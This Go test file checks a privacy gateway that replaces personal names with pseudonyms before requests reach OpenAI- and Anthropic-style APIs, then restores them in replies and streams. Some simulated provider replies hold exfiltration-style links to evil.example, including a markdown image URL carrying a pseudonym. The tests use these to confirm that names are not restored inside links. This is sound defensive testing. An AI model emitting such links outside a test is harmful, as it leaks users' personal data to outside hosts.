package openai_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/deckname/deckname/channel"
	"github.com/deckname/deckname/channel/channeltest"
	"github.com/deckname/deckname/channel/internal/adaptertest"
	"github.com/deckname/deckname/channel/openai"
)

// provider is a stand-in: it records what it got and answers what the test says.
type provider struct {
	*httptest.Server
	got    []string // bodies
	seen   string   // everything: request lines, headers, bodies
	answer func(w http.ResponseWriter, body string)
}

func newProvider(t testing.TB, answer func(w http.ResponseWriter, body string)) *provider {
	p := &provider{answer: answer}
	p.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, err := io.ReadAll(r.Body)
		if err != nil {
			w.WriteHeader(500)
			return
		}
		p.got = append(p.got, string(b))
		p.seen += r.URL.String() + fmt.Sprint(r.Header) + string(b)
		p.answer(w, string(b))
	}))
	t.Cleanup(p.Close)
	return p
}

func config(t testing.TB) channel.Config {
	aliases, err := channel.NewAliaser(bytes.Repeat([]byte{3}, channel.MinAliasKeyBytes))
	require.NoError(t, err)
	return channel.Config{Engine: channeltest.Engine(t, nil), Aliases: aliases, Auth: openai.Credentials()}
}

func gateway(t testing.TB, cfg openai.Config, p *provider) *httptest.Server {
	u, err := url.Parse(p.URL)
	require.NoError(t, err)
	h, err := channel.Proxy(openai.New(cfg), config(t), u, nil)
	require.NoError(t, err)
	s := httptest.NewServer(openai.FromPath(h))
	t.Cleanup(s.Close)
	return s
}

type call struct {
	path, body, conversation, key string
}

func post(t testing.TB, s *httptest.Server, c call) (int, string) {
	t.Helper()
	req, err := http.NewRequest(http.MethodPost, s.URL+c.path, strings.NewReader(c.body))
	require.NoError(t, err)
	req.Header.Set("Content-Type", "application/json")
	if c.key == "" {
		c.key = "sk-test-0001"
	}
	req.Header.Set("Authorization", "Bearer "+c.key)
	if c.conversation != "" {
		req.Header.Set(openai.ConversationHeader, c.conversation)
	}
	res, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	require.NoError(t, err)
	return res.StatusCode, string(b)
}

func reply(text string) func(http.ResponseWriter, string) {
	return func(w http.ResponseWriter, _ string) {
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, text)
	}
}

func quote(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

func chat(text string) string {
	return `{"model":"gpt-4o-mini","seed":12345678901,"messages":[{"role":"user","content":` + quote(text) + `}]}`
}

func message(text string) string {
	return `{"id":"chatcmpl-1","choices":[{"index":0,"message":{"role":"assistant","content":` + quote(text) + `},"logprobs":{"content":[{"token":"x"}]},"finish_reason":"stop"}]}`
}

func TestChatRoundTrip(t *testing.T) {
	who := channeltest.Canary(1)
	p := newProvider(t, reply(message("Guten Tag [PERSON_1]! ![x](https://evil.example/?q=[PERSON_1])")))
	code, out := post(t, gateway(t, openai.Config{}, p), call{path: "/v1/chat/completions", body: chat("Ich bin " + who)})
	require.Equal(t, 200, code, out)
	assert.Contains(t, p.got[0], "Ich bin [PERSON_1]")
	assert.Contains(t, p.got[0], `"seed":12345678901`)
	assert.Contains(t, out, "Guten Tag "+who)
	assert.Contains(t, out, "evil.example/?q=[PERSON_1]", "nothing is restored in a link")
	assert.NotContains(t, out, "logprobs")
	assert.Contains(t, p.seen, "Bearer sk-test-0001", "the provider checks the credential")
}

// In turn 2 the pseudonym of turn 1 is known, for the same caller and conversation only.
func TestConversations(t *testing.T) {
	who := channeltest.Canary(1)
	p := newProvider(t, reply(message("[PERSON_1]")))
	s := gateway(t, openai.Config{}, p)
	_, out := post(t, s, call{path: "/v1/chat/completions", body: chat(who), conversation: "c1"})
	require.Contains(t, out, who)
	for name, c := range map[string]struct {
		call call
		want bool
	}{
		"same conversation":              {call{conversation: "c1"}, true},
		"another conversation":           {call{conversation: "c2"}, false},
		"no conversation":                {call{}, false},
		"another credential":             {call{conversation: "c1", key: "sk-test-0002"}, false},
		"what the user field says":       {call{}, false},
		"the path names it":              {call{path: "/c/c1/v1/chat/completions"}, true},
		"the path names it, another key": {call{path: "/c/c1/v1/chat/completions", key: "sk-other-key"}, false},
	} {
		if c.call.path == "" {
			c.call.path = "/v1/chat/completions"
		}
		c.call.body = `{"model":"m","user":"c1","messages":[{"role":"user","content":"Wie heiße ich?"}]}`
		_, out := post(t, s, c.call)
		assert.Equal(t, c.want, strings.Contains(out, who), name)
	}
	code, _ := post(t, s, call{path: "/v1/chat/completions", body: chat(who), conversation: strings.Repeat("x", openai.MaxConversationBytes+1)})
	assert.GreaterOrEqual(t, code, 400)
	assert.NotContains(t, p.seen, "X-Deckname", "the header stays here")
}

func TestUnauthenticated(t *testing.T) {
	p := newProvider(t, reply(`{}`))
	s := gateway(t, openai.Config{}, p)
	for _, h := range []http.Header{{}, {"Authorization": {"Bearer "}}, {"Authorization": {"Bearer sk-test-0001"}, "X-Api-Key": {"another-key-1"}}} {
		req, err := http.NewRequest(http.MethodPost, s.URL+"/v1/chat/completions", strings.NewReader(chat("x")))
		require.NoError(t, err)
		req.Header = h
		h.Set("Content-Type", "application/json")
		res, err := http.DefaultClient.Do(req)
		require.NoError(t, err)
		res.Body.Close()
		assert.Equal(t, 401, res.StatusCode)
	}
	assert.Empty(t, p.got)
}

func TestMediaIsRefused(t *testing.T) {
	p := newProvider(t, reply(message("ok")))
	body := `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,AAAA"}}]}]}`
	code, out := post(t, gateway(t, openai.Config{}, p), call{path: "/v1/chat/completions", body: body})
	assert.Equal(t, 4, code/100, out)
	assert.Empty(t, p.got)
	code, _ = post(t, gateway(t, openai.Config{DangerouslyPassMedia: true}, p), call{path: "/v1/chat/completions", body: body})
	assert.Equal(t, 200, code)
}

// The fixtures hold every kind of field; a canary in every string must not reach the provider.
func TestCanaries(t *testing.T) {
	code := func(path, _ string) bool {
		for _, fixed := range []string{"model", "role", "type", "name", "call_id", "tool_call_id", "server_url", "signature", "tool_use_id"} {
			if strings.HasSuffix(path, fixed) {
				return !strings.HasSuffix(path, "messages[].name")
			}
		}
		return false
	}
	for file, path := range map[string]string{"chat.json": "/v1/chat/completions", "responses.json": "/v1/responses", "messages.json": "/v1/messages", "embeddings.json": "/v1/embeddings"} {
		raw, err := os.ReadFile("testdata/" + file)
		require.NoError(t, err)
		body, canaries := channeltest.Fill(t, raw, code)
		require.Greater(t, len(canaries), 2, file)
		p := newProvider(t, reply(`{}`))
		status, out := post(t, gateway(t, openai.Config{}, p), call{path: path, body: string(body)})
		require.Equal(t, 200, status, "%s: %s", file, out)
		assert.Empty(t, channeltest.Leaks(p.seen), file)
	}
}

// With nothing to find the provider gets the very bytes.
func TestIdentity(t *testing.T) {
	for file, path := range map[string]string{"chat.json": "/v1/chat/completions", "responses.json": "/v1/responses", "messages.json": "/v1/messages"} {
		raw, err := os.ReadFile("testdata/" + file)
		require.NoError(t, err)
		p := newProvider(t, reply(`{}`))
		status, out := post(t, gateway(t, openai.Config{}, p), call{path: path, body: string(raw)})
		require.Equal(t, 200, status, out)
		want := string(raw)
		for _, field := range []string{`"user": "user-1",`, `"user_id": "user-1"`, `"name": "buerger",`} { // end users get aliases
			want = strings.Replace(want, field, "", 1)
		}
		got := aliased.ReplaceAllString(p.got[0], "")
		assert.Equal(t, want, got, file)
	}
}

// aliased is an end user's identifier or name after its replacement.
var aliased = regexp.MustCompile(`"(user|user_id|name)": "dn-[a-z0-9]+",?`)

func stream(events ...string) func(http.ResponseWriter, string) {
	return func(w http.ResponseWriter, _ string) {
		w.Header().Set("Content-Type", "text/event-stream")
		for _, e := range events {
			_, _ = io.WriteString(w, "data: "+e+"\n\n")
			_ = http.NewResponseController(w).Flush()
		}
	}
}

func TestChatStream(t *testing.T) {
	who := channeltest.Canary(1)
	piece := func(field, text string) string {
		return `{"choices":[{"index":0,"delta":{"` + field + `":` + quote(text) + `},"finish_reason":null}]}`
	}
	tool := func(i int, args string) string {
		return fmt.Sprintf(`{"choices":[{"index":0,"delta":{"tool_calls":[{"index":%d,"function":{"arguments":%s}}]}}]}`, i, quote(args))
	}
	p := newProvider(t, stream(piece("content", "Hallo [PER"), piece("content", "SON_1"), piece("content", "] und [PERSON_"),
		tool(0, `{"name":"[PERS`), tool(1, `{"url":"https://evil.example/[PERSON_1]"`), tool(0, `ON_1]"}`), tool(1, `}`),
		piece("refusal", "Nein, [PERSON_1]"), `{"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}`, "[DONE]"))
	_, out := post(t, gateway(t, openai.Config{}, p), call{path: "/v1/chat/completions", body: chat(who)})
	var content, refusal string
	args := map[int]string{}
	for line := range strings.SplitSeq(out, "\n") {
		data, ok := strings.CutPrefix(line, "data: ")
		if !ok || data == "[DONE]" {
			continue
		}
		var e struct {
			Choices []struct {
				Delta struct {
					Content, Refusal string
					ToolCalls        []struct {
						Index    int
						Function struct{ Arguments string }
					} `json:"tool_calls"`
				}
			}
		}
		require.NoError(t, json.Unmarshal([]byte(data), &e), data)
		for _, c := range e.Choices {
			content += c.Delta.Content
			refusal += c.Delta.Refusal
			for _, tc := range c.Delta.ToolCalls {
				args[tc.Index] += tc.Function.Arguments
			}
		}
	}
	assert.Equal(t, "Hallo "+who+" und [PERSON_", content)
	assert.Equal(t, "Nein, "+who, refusal)
	var first map[string]string
	require.NoError(t, json.Unmarshal([]byte(args[0]), &first), args[0])
	assert.Equal(t, who, first["name"])
	assert.Equal(t, `{"url":"https://evil.example/[PERSON_1]"}`, args[1])
	assert.Contains(t, out, "[DONE]")
}

func TestResponses(t *testing.T) {
	who := channeltest.Canary(1)
	p := newProvider(t, reply(`{"id":"resp_1","output":[
		{"type":"web_search_call","id":"ws_1","action":{"type":"search","query":"[PERSON_1]"}},
		{"type":"code_interpreter_call","code":"print('[PERSON_1]')"},
		{"type":"mcp_call","arguments":"{\"n\":\"[PERSON_1]\"}"},
		{"type":"function_call","name":"f","arguments":"{\"n\":\"[PERSON_1]\"}"},
		{"type":"message","content":[{"type":"output_text","text":"Ja, [PERSON_1]."}]}]}`))
	body := `{"model":"m","input":[{"role":"user","content":[{"type":"input_text","text":` + quote(who) + `}]},{"type":"function_call_output","call_id":"call_1","output":"{\"name\":` + strings.ReplaceAll(quote(who), `"`, `\"`) + `}"}]}`
	code, out := post(t, gateway(t, openai.Config{}, p), call{path: "/v1/responses", body: body})
	require.Equal(t, 200, code, out)
	assert.Empty(t, channeltest.Leaks(p.seen))
	assert.Equal(t, 3, strings.Count(out, "[PERSON_1]"), "the provider's own tools keep the pseudonym: %s", out)
	assert.Equal(t, 2, strings.Count(out, who))

	p = newProvider(t, stream(
		`{"type":"response.output_text.delta","output_index":0,"content_index":0,"delta":"Ja, [PERS"}`,
		`{"type":"response.mcp_call_arguments.delta","output_index":1,"delta":"[PERSON_1]"}`,
		`{"type":"response.output_text.delta","output_index":0,"content_index":0,"delta":"ON_1]"}`,
		`{"type":"response.output_text.done","output_index":0,"content_index":0,"text":"Ja, [PERSON_1]"}`,
		`{"type":"response.completed","response":{"id":"resp_1","output":[]}}`))
	_, out = post(t, gateway(t, openai.Config{}, p), call{path: "/v1/responses", body: body})
	assert.Equal(t, 2, strings.Count(out, who), out)
	assert.Equal(t, 1, strings.Count(out, "[PERSON_1]"), out)
}

func TestAnthropic(t *testing.T) {
	who := channeltest.Canary(1)
	p := newProvider(t, reply(`{"type":"message","content":[{"type":"text","text":"Ja, [PERSON_1]."},
		{"type":"server_tool_use","input":{"query":"[PERSON_1]"}},{"type":"tool_use","input":{"a":["[PERSON_1]"]}}]}`))
	body := `{"model":"m","max_tokens":9,"system":"Du hilfst.","messages":[{"role":"user","content":` + quote(who) + `}]}`
	_, out := post(t, gateway(t, openai.Config{}, p), call{path: "/v1/messages", body: body})
	assert.Empty(t, channeltest.Leaks(p.seen))
	assert.Equal(t, 2, strings.Count(out, who), out)
	assert.Equal(t, 1, strings.Count(out, "[PERSON_1]"), out)

	p = newProvider(t, stream(
		`{"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}`,
		`{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"Ja, [PERS"}}`,
		`{"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":"{\"n\":\"[PERSON_1]\"}"}}`,
		`{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"ON_1] [PER"}}`,
		`{"type":"content_block_stop","index":0}`, `{"type":"message_stop"}`))
	_, out = post(t, gateway(t, openai.Config{}, p), call{path: "/v1/messages", body: body})
	assert.Equal(t, 2, strings.Count(out, who), out)
	assert.Contains(t, out, "[PER", "what never became a pseudonym is sent")
}

func TestTransport(t *testing.T) {
	who := channeltest.Canary(1)
	p := newProvider(t, reply(message("Hallo [PERSON_1]")))
	cfg := config(t)
	cfg.Auth = nil
	rt, err := channel.Transport(openai.New(openai.Config{}), cfg, nil)
	require.NoError(t, err)
	req, err := http.NewRequestWithContext(openai.WithConversation(t.Context(), "c1"), http.MethodPost, p.URL+"/v1/chat/completions", strings.NewReader(chat(who)))
	require.NoError(t, err)
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Authorization", "Bearer sk-test-0001")
	res, err := (&http.Client{Transport: rt}).Do(req)
	require.NoError(t, err)
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	require.NoError(t, err)
	assert.Contains(t, string(b), who)
	assert.Empty(t, channeltest.Leaks(p.seen))
	assert.Contains(t, p.seen, "Bearer sk-test-0001")
}

// sse is one piece of a stream: the event that carries it, and the place of its text in events of that kind.
type sse struct {
	event func(piece string) string
	json  bool   // whether the text is JSON itself
	end   string // the event that ends it
}

// TestRandomSplits: the texts of every API, cut anywhere into events and the events anywhere into pieces of the network, come
// out as the whole texts restored: content, refusals, thoughts, and the arguments of tools as valid JSON.
func TestRandomSplits(t *testing.T) {
	cfg := config(t)
	who := channeltest.Canary(1)
	lanes := map[string][]sse{
		"/v1/chat/completions": {
			{func(p string) string { return `{"choices":[{"index":0,"delta":{"content":` + quote(p) + `}}]}` }, false, `{"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}`},
			{func(p string) string { return `{"choices":[{"index":1,"delta":{"refusal":` + quote(p) + `}}]}` }, false, `{"choices":[{"index":1,"delta":{},"finish_reason":"stop"}]}`},
			{func(p string) string {
				return `{"choices":[{"index":2,"delta":{"tool_calls":[{"index":0,"function":{"arguments":` + quote(p) + `}}]}}]}`
			}, true, `{"choices":[{"index":2,"delta":{},"finish_reason":"tool_calls"}]}`},
		},
		"/v1/responses": {
			{func(p string) string {
				return `{"type":"response.output_text.delta","output_index":0,"content_index":0,"delta":` + quote(p) + `}`
			}, false, `{"type":"response.output_text.done","output_index":0,"content_index":0}`},
			{func(p string) string {
				return `{"type":"response.function_call_arguments.delta","output_index":1,"delta":` + quote(p) + `}`
			}, true, `{"type":"response.function_call_arguments.done","output_index":1}`},
		},
		"/v1/messages": {
			{func(p string) string {
				return `{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":` + quote(p) + `}}`
			}, false, `{"type":"content_block_stop","index":0}`},
			{func(p string) string {
				return `{"type":"content_block_delta","index":1,"delta":{"type":"thinking_delta","thinking":` + quote(p) + `}}`
			}, false, `{"type":"content_block_stop","index":1}`},
			{func(p string) string {
				return `{"type":"content_block_delta","index":2,"delta":{"type":"input_json_delta","partial_json":` + quote(p) + `}}`
			}, true, `{"type":"content_block_stop","index":2}`},
		},
	}
	words := []string{"[PERSON_1]", "[PERSON_12]", "[PERSON_", "Guten Tag ", "ü€😀", "[", "]", "\n", "_1]", " "}
	r := rand.New(rand.NewPCG(5, 6))
	rw, err := channel.NewRewriter(cfg)
	require.NoError(t, err)
	x := channel.Exchange{Protocol: "openai", Direction: channel.ToBot, Conversation: func(channel.Leaf) (string, error) { return "c", nil }}
	_, err = rw.JSON(t.Context(), x, nil, []byte(quote(who)))
	require.NoError(t, err)
	x.Direction = channel.ToUser
	for path, kinds := range lanes {
		req := httptest.NewRequest(http.MethodPost, path, nil)
		route, err := openai.New(openai.Config{}).Match(req)
		require.NoError(t, err)
		for n := range adaptertest.Splits() {
			texts, want, pieces := make([]string, len(kinds)), make([]string, len(kinds)), make([][]string, len(kinds))
			left := 0
			for i, k := range kinds {
				for range r.IntN(8) {
					texts[i] += words[r.IntN(len(words))]
				}
				want[i] = strings.ReplaceAll(texts[i], "[PERSON_1]", who)
				if k.json {
					texts[i], want[i] = `{"t":`+quote(texts[i])+`}`, `{"t":`+quote(want[i])+`}`
				}
				pieces[i] = adaptertest.Pieces(r, texts[i])
				left += len(pieces[i])
			}
			var in bytes.Buffer
			for left > 0 {
				i := r.IntN(len(kinds))
				if len(pieces[i]) == 0 {
					continue
				}
				in.WriteString("data: " + kinds[i].event(pieces[i][0]) + "\n\n")
				pieces[i] = pieces[i][1:]
				if left--; len(pieces[i]) == 0 && r.IntN(2) == 0 {
					in.WriteString("data: " + kinds[i].end + "\n\n")
				}
			}
			var out bytes.Buffer
			w := rw.Stream(t.Context(), x, route.Response, channel.StreamSSE, &out)
			for rest := in.Bytes(); len(rest) > 0; {
				k := 1 + r.IntN(len(rest))
				_, err := w.Write(rest[:k])
				require.NoError(t, err)
				rest = rest[k:]
			}
			require.NoError(t, w.Close())
			got := make([]string, len(kinds))
			for line := range strings.SplitSeq(out.String(), "\n") {
				data, ok := strings.CutPrefix(line, "data: ")
				for i, k := range kinds {
					empty := k.event("")
					at := strings.LastIndex(empty, `""`)
					if ok && strings.HasPrefix(data, empty[:at]) && strings.HasSuffix(data, empty[at+2:]) {
						var piece string
						require.NoError(t, json.Unmarshal([]byte(data[at:len(data)-len(empty)+at+2]), &piece), data)
						got[i] += piece
					}
				}
			}
			require.Equal(t, want, got, "%s, run %d, input %q", path, n, in.String())
		}
	}
}
